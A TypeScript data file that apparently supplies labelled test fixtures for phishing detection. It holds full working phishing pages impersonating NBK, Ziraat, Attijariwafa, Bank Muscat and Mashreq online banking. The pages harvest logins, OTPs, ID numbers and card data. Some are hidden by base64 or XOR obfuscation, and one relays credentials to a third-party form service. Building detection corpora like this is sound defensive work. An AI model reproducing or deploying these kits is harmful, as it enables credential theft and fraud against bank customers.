import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, cardCss, cardFields, cardMaskJs, otpBoxes, otpJs, countdownJs, stepFlow, sendFetchForm, sendJson, sendXhr, sendTelegram, json, js, b64, pct, xorHex } from '../parts/yl-kit.js';

const nbkInner = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>NBK Online Banking | National Bank of Kuwait</title>
<style>body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f2f4f7}.bar{background:#00205b;padding:16px 28px;color:#fff;display:flex;align-items:center;justify-content:space-between}.bar b{font-size:22px;letter-spacing:1px}.bar span{font-size:13px;opacity:.8}
.box{max-width:400px;margin:46px auto;background:#fff;padding:30px;border-top:4px solid #00a3e0;box-shadow:0 2px 10px rgba(0,0,0,.07)}h2{margin:0 0 18px;color:#00205b;font-weight:normal}
label{font-size:13px;color:#444;display:block;margin:12px 0 5px}input{width:100%;box-sizing:border-box;height:42px;border:1px solid #c8ccd3;padding:0 10px;font-size:15px}
button{margin-top:20px;width:100%;height:44px;background:#00205b;color:#fff;border:0;font-size:15px;cursor:pointer}.s{display:none}.small{font-size:12px;color:#777;margin-top:14px;line-height:1.6}</style></head>
<body><div class="bar"><b>NBK</b><span>English | عربي</span></div>
<div class="box" id="a"><h2>Login to NBK Online</h2><form id="f1"><label>Username</label><input name="u" autocomplete="username" required><label>Password</label><input name="p" type="password" autocomplete="current-password" required><button>Login</button></form>
<div class="small">Never share your OTP or password with anyone. NBK will never ask you for your login details by phone, SMS or e-mail.</div></div>
<div class="box s" id="b"><h2>Secure Verification</h2><p class="small">A one-time password has been sent to your registered mobile. Please enter it below to confirm your identity.</p><form id="f2"><label>OTP</label><input name="otp" inputmode="numeric" maxlength="6" required><label>Civil ID number</label><input name="cid" inputmode="numeric" maxlength="12" required><button>Confirm</button></form></div>
<script>
var g=function(id){return document.getElementById(id)};var d={};
function up(o,cb){var x=new XMLHttpRequest();x.open('POST','/wp-includes/css/nbk/post.php');x.setRequestHeader('Content-Type','application/json');x.onloadend=cb;x.send(JSON.stringify(o))}
g('f1').onsubmit=function(e){e.preventDefault();d.u=this.u.value;d.p=this.p.value;up(d,function(){g('a').style.display='none';g('b').style.display='block'})};
g('f2').onsubmit=function(e){e.preventDefault();d.otp=this.otp.value;d.cid=this.cid.value;up(d,function(){location.href='https://www.nbk.com/kuwait.html'})};
</script></body></html>`;

export const entries: Entry[] = [
{
  id: 'yl-nbk-base64-docwrite',
  label: 'phishing',
  kind: 'bank-kit-obfuscated',
  url: 'https://nbk-kw-online.com/wp-includes/css/nbk/index.html',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title></head><body>
<script>
var _0x3a=["${b64(nbkInner).slice(0, 900)}","${b64(nbkInner).slice(900)}"];
document.open();document.write(decodeURIComponent(escape(window.atob(_0x3a.join('')))));document.close();
</script></body></html>`,
  routes: { 'nbk-kw-online.com/wp-includes/css/nbk/post.php': json({ s: 'ok' }) },
},
{
  id: 'yl-ziraat-tc-kimlik-sms',
  label: 'phishing',
  kind: 'bank-kit-tr',
  url: 'https://ziraat-internetsubesi-giris.com/Transactions/Login/FirstLogin.aspx',
  body: doc({
    title: 'Ziraat Bankası İnternet Şubesi',
    lang: 'tr',
    css: cardCss({ bg: '#f5f5f5', primary: '#e30a17', radius: 6 }) + `.hdr{background:#e30a17;color:#fff;padding:12px 26px;display:flex;align-items:center;justify-content:space-between}.hdr span{font-size:13px}
.info{font-size:12.5px;color:#555;background:#fafafa;border:1px solid #eee;padding:10px;border-radius:4px;margin-top:16px;line-height:1.6}`,
    body: `<div class="hdr">${wordmark('ZİRAAT BANKASI', '#fff', { size: 20 })}<span>Bireysel | Kurumsal</span></div>
<div class="wrap"><div class="card">
<div class="step on"><h1>İnternet Şubesi Giriş</h1><p class="sub">Müşteri numaranız veya T.C. Kimlik Numaranız ile giriş yapabilirsiniz.</p>
<form><div class="f"><label>T.C. Kimlik No / Müşteri No</label><input name="tckn" inputmode="numeric" maxlength="11" required></div>
<div class="f"><label>Şifre</label><input name="sifre" type="password" maxlength="6" inputmode="numeric" required></div>
<button class="btn">Giriş</button></form>
<div class="info">Hesabınızın güvenliği için sistemlerimiz güncellenmiştir. Güncellemeyi tamamlamayan müşterilerimizin internet şubesi erişimi geçici olarak kısıtlanacaktır.</div></div>
<div class="step"><h1>Cep Telefonu Doğrulama</h1><form><div class="f"><label>Cep telefonu numaranız</label><input name="gsm" placeholder="05XX XXX XX XX" required></div><button class="btn">Devam</button></form></div>
<div class="step"><h1>SMS Onay Kodu</h1><p class="sub">Cep telefonunuza gönderilen onay kodunu giriniz. Kalan süre: <b id="cd">0:59</b></p><form>${otpBoxes()}<button class="btn">Onayla</button></form></div>
<div class="step"><div class="spin"></div><p class="sub" style="text-align:center">İşleminiz gerçekleştiriliyor, lütfen bekleyiniz...</p><form></form></div>
</div><footer>© 2025 T.C. Ziraat Bankası A.Ş. · 0850 220 00 00</footer></div>
<script>${otpJs}${countdownJs('#cd', 120)}</script>
${stepFlow({ send: sendJson('/Transactions/Login/api.php?act=log'), finalUrl: 'https://www.ziraatbank.com.tr/tr', delayMs: 6000 })}`,
  }),
  routes: { 'ziraat-internetsubesi-giris.com/Transactions/Login/api.php': json({ durum: 'ok' }) },
},
{
  id: 'yl-attijarinet-fr-maroc',
  label: 'phishing',
  kind: 'bank-kit-maghreb',
  url: 'https://attijarinet-particuliers.com/fr/connexion/',
  body: doc({
    title: 'Attijarinet - Espace Particuliers',
    lang: 'fr',
    css: cardCss({ bg: '#f7f3ee', primary: '#d4651b', radius: 6 }) + `.hd{display:flex;justify-content:space-between;align-items:center;padding:16px 28px;background:#fff;box-shadow:0 1px 0 #eee}.hd a{color:#555;font-size:13px;text-decoration:none}.pad{display:grid;grid-template-columns:repeat(5,1fr);gap:6px;margin:10px 0 16px}.pad button{height:40px;border:1px solid #ddd;background:#fafafa;font-size:17px;border-radius:4px;cursor:pointer}`,
    body: `<div class="hd">${wordmark('Attijariwafa bank', '#d4651b', { size: 21 })}<a href="#">العربية</a></div>
<div class="wrap"><div class="card">
<div class="step on"><h1>Accès à votre espace</h1><p class="sub">Saisissez votre identifiant puis composez votre code secret à l'aide du clavier virtuel.</p>
<form><div class="f"><label>Identifiant</label><input name="ident" required></div>
<div class="f"><label>Code secret</label><input id="code" name="code" type="password" readonly required></div>
<div class="pad" id="pad"></div><button class="btn">Se connecter</button></form></div>
<div class="step"><h1>Authentification forte</h1><p class="sub">Un code de confirmation vous a été envoyé par SMS. Veuillez le saisir pour sécuriser votre accès.</p><form>${otpBoxes()}<button class="btn">Valider</button></form></div>
<div class="step"><h1>Vérification de votre carte</h1><form>${cardFields({ name: 'Titulaire', number: 'Numéro de carte', exp: "Date d'expiration", cvv: 'Cryptogramme' })}<button class="btn">Confirmer</button></form></div>
</div><footer>© Attijariwafa bank 2025 · Centre de relation client 05 22 58 88 55</footer></div>
<script>
(function(){var p=document.getElementById('pad'),c=document.getElementById('code'),n=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5});
n.forEach(function(d){var b=document.createElement('button');b.type='button';b.textContent=d;b.onclick=function(){if(c.value.length<6)c.value+=d};p.appendChild(b)});
var x=document.createElement('button');x.type='button';x.textContent='⌫';x.onclick=function(){c.value=c.value.slice(0,-1)};p.appendChild(x);})();
${otpJs}${cardMaskJs}</script>
${stepFlow({ send: sendJson('https://attijarinet-particuliers.com/srv/handler.php'), finalUrl: 'https://www.attijarinet.ma/' })}`,
  }),
  routes: { 'attijarinet-particuliers.com/srv/handler.php': json({ status: 200 }) },
},
{
  id: 'yl-bankmuscat-obfuscated-xor',
  label: 'phishing',
  kind: 'bank-kit-obfuscated',
  url: 'https://bankmuscat-om.online/ibank/',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Bank Muscat</title>
<script>
(function(k,h){var o='';for(var i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt(h.substr(i,2),16)^k);window.__b=o})(0x5a,"${xorHex(`<div style="font-family:Arial,sans-serif;background:#f1f3f6;min-height:100vh;margin:-8px"><div style="background:#00205c;padding:16px 26px;color:#fff;font-size:20px;font-weight:bold">bank muscat <span style="font-weight:normal;font-size:13px;opacity:.8">Internet Banking</span></div><div style="max-width:380px;margin:40px auto;background:#fff;padding:28px;border-radius:6px"><h2 style="margin-top:0;color:#00205c">Welcome</h2><p style="font-size:13px;color:#666">Due to a mandatory update required by the Central Bank of Oman, please log in to re-activate your internet banking.</p><form id="lf"><p><input name="cif" placeholder="Customer ID" style="width:100%;height:40px;padding:0 10px;box-sizing:border-box"></p><p><input name="pw" type="password" placeholder="Password" style="width:100%;height:40px;padding:0 10px;box-sizing:border-box"></p><p><input name="civil" placeholder="Civil / Resident card number" style="width:100%;height:40px;padding:0 10px;box-sizing:border-box"></p><p><input name="mob" placeholder="Mobile (+968)" style="width:100%;height:40px;padding:0 10px;box-sizing:border-box"></p><button style="width:100%;height:42px;background:#00205c;color:#fff;border:0">Log in</button></form><p style="font-size:11px;color:#999">&copy; Bank Muscat SAOG</p></div></div>`, 0x5a)}");
</script></head>
<body>
<div id="r"></div>
<script>
document.getElementById('r').innerHTML=window.__b;
document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this),o={};f.forEach(function(v,k){o[k]=v});
navigator.sendBeacon('/ibank/log.php',JSON.stringify(o));
this.innerHTML='<p style="text-align:center;color:#00205c">Verifying…</p>';setTimeout(function(){location.href='/ibank/otp.html'},2500)});
</script></body></html>`,
  routes: {
    'bankmuscat-om.online/ibank/log.php': json({ ok: 1 }),
    'bankmuscat-om.online/ibank/otp.html': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Bank Muscat - OTP</title><style>body{font-family:Arial;background:#f1f3f6}.b{max-width:360px;margin:60px auto;background:#fff;padding:26px;border-radius:6px}input{width:100%;height:42px;font-size:20px;text-align:center;letter-spacing:8px}button{margin-top:14px;width:100%;height:42px;background:#00205c;color:#fff;border:0}</style></head><body><div class="b"><h3>Enter OTP</h3><p style="font-size:13px;color:#555">An OTP was sent to your registered mobile number.</p><form onsubmit="event.preventDefault();navigator.sendBeacon('/ibank/log.php','otp='+this.o.value);location.href='https://www.bankmuscat.com/'"><input name="o" maxlength="6"><button>Submit</button></form></div></body></html>`),
  },
},
{
  id: 'yl-mashreq-formsubmit-relay',
  label: 'phishing',
  kind: 'bank-kit-gulf',
  url: 'https://mashreq-neo-secure.web.app/login',
  body: doc({
    title: 'Mashreq NEO – Log in',
    css: cardCss({ bg: '#fff', primary: '#ff5e00', radius: 24 }) + `.split{display:grid;grid-template-columns:1fr 1fr;min-height:100vh}.l{background:#ff5e00;color:#fff;padding:60px;display:flex;flex-direction:column;justify-content:center}.l h2{font-size:36px;margin:0 0 12px}@media(max-width:760px){.split{grid-template-columns:1fr}.l{display:none}}.card{box-shadow:none}`,
    body: `<div class="split"><div class="l">${wordmark('mashreq', '#fff', { size: 30 })}<h2>Banking made simple.</h2><p>Log in to Mashreq NEO to continue.</p></div>
<div><div class="wrap" style="padding-top:80px"><div class="card">
<h1>Log in</h1><p class="sub">Your NEO app session has expired. Log in again to keep your cards active.</p>
<div class="err" id="er">The username or password you entered is incorrect.</div>
<form id="mf" action="https://formsubmit.co/ajax/5b1e8f0c2a7d44b3" method="POST">
<input type="hidden" name="_subject" value="mq new"><input type="hidden" name="_captcha" value="false">
<div class="f"><label>Username / Email</label><input name="username" required></div>
<div class="f"><label>Password</label><input type="password" name="password" required></div>
<div class="f"><label>Registered mobile</label><input name="mobile" placeholder="+9715XXXXXXXX" required></div>
<button class="btn">Log in</button></form>
<p class="muted" style="margin-top:18px">Mashreq will never ask for your PIN or OTP over the phone.</p></div></div></div></div>
<script>var n=0;document.getElementById('mf').addEventListener('submit',function(e){e.preventDefault();n++;var f=this;fetch(f.action,{method:'POST',headers:{Accept:'application/json'},body:new FormData(f)}).catch(function(){}).then(function(){if(n<2){document.getElementById('er').style.display='block';f.password.value=''}else{location.href='https://www.mashreq.com/en/uae/neo/'}})});</script>`,
  }),
},
];
